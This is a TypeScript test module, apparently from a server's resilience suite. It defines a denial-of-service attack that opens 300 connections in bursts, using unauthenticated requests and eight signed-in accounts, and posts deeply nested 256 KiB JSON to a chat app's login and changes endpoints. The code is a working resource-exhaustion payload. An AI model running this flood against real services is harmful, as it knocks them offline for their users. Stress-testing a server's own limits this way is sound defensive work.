import { setTimeout as sleep } from 'node:timers/promises';
import { defineAttack } from './attack.ts';
import { PersistentConnection, sendTogether } from './persistent-connection.ts';
import { rawRequest, withCookie } from './raw-connection.ts';

const CONNECTIONS = 300;
const ACCOUNTS = 8;
/** Milliseconds between the bursts. */
const PAUSE = 200;
/** Nested arrays in a body of almost 256 KiB. */
const DEPTH = 130_000;

/** Sends JSON that takes long to parse and needs much memory, without an account and with eight. */
export const costlyBodies = defineAttack({
  summary: '300 connections, most of 8 accounts, send deeply nested JSON of 256 KiB',
  // Of 75 MiB that are received in the same moment, and their garbage.
  growthMax: 300,
  async prepare(server) {
    const cookies: string[] = [];
    for (let i = 0; i < ACCOUNTS; i += 1)
      cookies.push((await server.signIn(`Attacker${i}`)).cookie);
    return { cookies };
  },
  async run(target) {
    const json = '['.repeat(DEPTH) + ']'.repeat(DEPTH);
    const headers = { 'content-type': 'application/json', 'content-length': String(json.length) };
    const post = (path: string) => rawRequest(path, headers, 'POST') + json;
    const login = post('/api/users/login');
    const requests = [
      login,
      ...target.prepared.cookies.map((cookie) =>
        withCookie(post('/api/chatrooms/changes'), cookie),
      ),
    ];
    const counts: Record<string, number> = {};
    while (!target.signal.aborted) {
      // A rejected request ends its connection.
      const connections = Array.from(
        { length: CONNECTIONS },
        () => new PersistentConnection(target),
      );
      const burst = connections.map((_, i) => requests[i % requests.length] ?? login);
      for (const status of await sendTogether(connections, burst)) {
        const name = `status${status}`;
        counts[name] = (counts[name] ?? 0) + 1;
      }
      for (const connection of connections) connection.close();
      await sleep(PAUSE);
    }
    return counts;
  },
});
